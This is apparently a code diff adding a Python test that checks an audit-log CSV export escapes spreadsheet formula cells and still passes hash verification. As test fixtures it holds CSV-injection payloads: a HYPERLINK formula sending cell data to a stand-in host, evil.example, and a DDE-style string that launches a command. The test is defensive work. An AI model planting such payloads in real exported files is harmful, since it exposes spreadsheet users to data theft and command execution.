@@ -141,3 +141,35 @@ def test_a_file_that_is_not_an_export_is_refused(tmp_path: Path) -> None:
 def test_unknown_format_is_refused(db) -> None:  # type: ignore[no-untyped-def]
     with pytest.raises(InvalidInput):
         write_export(db, Scope(alert_ids=(1,)), "xml", io.StringIO(), key=None)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text_and_still_verify(committed_db: Settings,
+                                                                                     tmp_path: Path) -> None:
+    from audit.trail import audit_refusal
+
+    stranger = Actor(kind="anonymous", name=FORMULA, interface="console", address="10.0.0.9",
+                     user_agent="@SUM(1+1)*cmd|' /C calc'!A0")
+    audit_refusal(stranger, "console.auth.login", None, None, "+unknown user", payload={})
+    with transaction() as session:
+        append(session, actor=ANA, action="contact.opted_out", subject_type="contact", subject_id=3,
+               reason="-2+3", payload={"msisdn": "+56912345678"})
+        append(session, actor=ANA, action="note", reason="'=already quoted", payload={})
+        append(session, actor=ANA, action="note", reason="\tindented\r", payload={})
+    seal_committed(dbmod.engine())
+    path = tmp_path / "all.csv"
+    _export(replace(committed_db, audit_checkpoint_dir=tmp_path / "cp"),
+            Scope(since=datetime(2000, 1, 1, tzinfo=UTC)), "csv", path)
+    raw = list(csv.reader(path.open(newline="")))  # as a spreadsheet reads the file
+    cells = [c for row in raw[1:] for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a formula cell escaped"
+    by_column = [dict(zip(raw[0], row, strict=True)) for row in raw[1:]]
+    assert by_column[0]["actor_name"] == "'" + FORMULA and by_column[0]["reason"] == "'+unknown user"
+    assert by_column[0]["origin_user_agent"].startswith("'@SUM")
+    assert by_column[1]["reason"] == "'-2+3"
+    assert by_column[2]["reason"] == "''=already quoted" and by_column[3]["reason"] == "'\tindented\r"
+    verdict = verify_export(path, engine=dbmod.engine(), key=None)  # the quotes come off: hashes check
+    assert verdict.ok, verdict.problems
+    assert verdict.count == 4
